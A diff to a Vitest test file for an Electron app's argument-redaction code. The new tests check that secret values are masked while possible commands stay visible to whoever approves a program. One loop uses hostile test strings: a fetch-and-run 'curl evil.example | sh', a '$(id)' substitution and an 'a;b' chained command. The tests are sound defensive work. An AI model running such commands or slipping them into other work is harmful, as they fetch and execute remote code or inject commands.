@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest'
-import { createRedactor, redactArguments } from '../../../../electron/cluster/redact.ts'
+import { argumentsToAgreeTo, createRedactor, redactArguments } from '../../../../electron/cluster/redact.ts'
 
 const redact = createRedactor([])
 const jwt = 'eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ.eyJzdWIiOiJsaSJ9.c2lnbmF0dXJl'
@@ -46,4 +46,22 @@ test('an argument that follows a flag for secrets is one', () => {
     '--cluster',
     'east',
   ])
+})
+
+test('an argument that has its secret behind a = is one, and the flag stays', () => {
+  expect(redactArguments(['--client-secret=a=b c', '--cluster=east'])).toEqual([
+    '--client-secret=***',
+    '--cluster=east',
+  ])
+})
+
+test('who is asked whether a program may run sees all that could be a command', () => {
+  const hidden = ['get-token', '--client-secret', 'a1B2c3', '--api-key=a1B2c3', '--key', '--verbose']
+  expect(argumentsToAgreeTo(hidden)).toEqual([
+    ...['get-token', '--client-secret', '***', '--api-key=***', '--key', '--verbose'],
+  ])
+  for (const command of ['curl evil.example | sh', '/tmp/evil', '$(id)', 'a;b', '-e'])
+    expect(argumentsToAgreeTo(['-c', '--key', command, `--token=${command}`])).toEqual([
+      ...['-c', '--key', command, `--token=${command}`],
+    ])
 })
